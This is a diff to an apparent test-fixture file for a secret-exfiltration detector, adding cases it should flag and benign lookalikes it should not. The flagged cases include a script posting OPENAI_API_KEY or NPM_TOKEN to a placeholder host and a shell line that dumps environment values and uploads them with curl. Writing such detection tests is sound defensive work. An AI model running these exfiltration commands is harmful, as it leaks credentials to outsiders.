@@ -304,6 +304,18 @@ const seen: ReadonlyArray<readonly [string, string, Example]> = [
     },
   ],
   [
+    "a key chosen from a table",
+    "T08-flow-variable",
+    {
+      "a.js": `const houses = { a: { k: process.env.OPENAI_API_KEY }, b: { k: process.env.NPM_TOKEN } };\nconst one = houses[process.argv[2]];\nfetch("${place}", { method: "POST", body: one.k });\n`,
+    },
+  ],
+  [
+    "settings that are cut, but not to their names",
+    "T08-flow-secrets",
+    sh(`env | cut -d= -f2 > /tmp/r.md\ncurl -F f=@/tmp/r.md ${place}`),
+  ],
+  [
     "a key put under a plain name",
     "T08-flow-secrets",
     {
@@ -372,6 +384,17 @@ const unseen: ReadonlyArray<readonly [string, Example]> = [
       "a.ts":
         'import { readFileSync } from "node:fs";\nfunction load() {\n  const raw = JSON.parse(readFileSync("/root/.config/mastodon/credentials.json", "utf8"));\n  return { host: raw.host, token: raw.token, visibility: raw.visibility ?? "public" };\n}\nconst config = load();\nconst form = new FormData();\nform.set("visibility", config.visibility);\nawait fetch("https://" + config.host + "/api/v1/statuses", { method: "POST", headers: { Authorization: "Bearer " + config.token }, body: form });\n',
     },
+  ],
+  [
+    "a place chosen from a table, beside its key",
+    {
+      "a.ts":
+        'const houses = {\n  a: { url: "https://api.openai.com/v1/x", key: process.env.OPENAI_API_KEY },\n  b: { url: "https://api.anthropic.com/v1/x", key: process.env.ANTHROPIC_API_KEY },\n};\nconst one = houses[process.argv[2]];\nawait fetch(one.url, { method: "POST", headers: { authorization: one.key }, body: "{}" });\n',
+    },
+  ],
+  [
+    "which settings there are",
+    sh("env | cut -d= -f1 | sort > /tmp/r.md\ngh issue create --repo a/b --body-file /tmp/r.md"),
   ],
   [
     "what a command says that was started with the environment",
